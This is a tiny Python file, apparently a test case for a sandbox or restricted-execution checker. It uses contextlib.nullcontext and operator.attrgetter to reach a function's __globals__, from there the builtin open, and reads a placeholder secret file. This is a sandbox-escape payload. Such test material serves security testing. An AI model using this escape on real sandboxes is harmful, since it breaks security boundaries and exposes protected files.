"""`with … as` binds what it is told."""
import contextlib
import operator
with contextlib.nullcontext(operator.attrgetter) as _formatted_:
    print(_formatted_("__globals__")(contextlib.contextmanager)["__builtins__"]["open"]("@SECRET_FILE@").read())
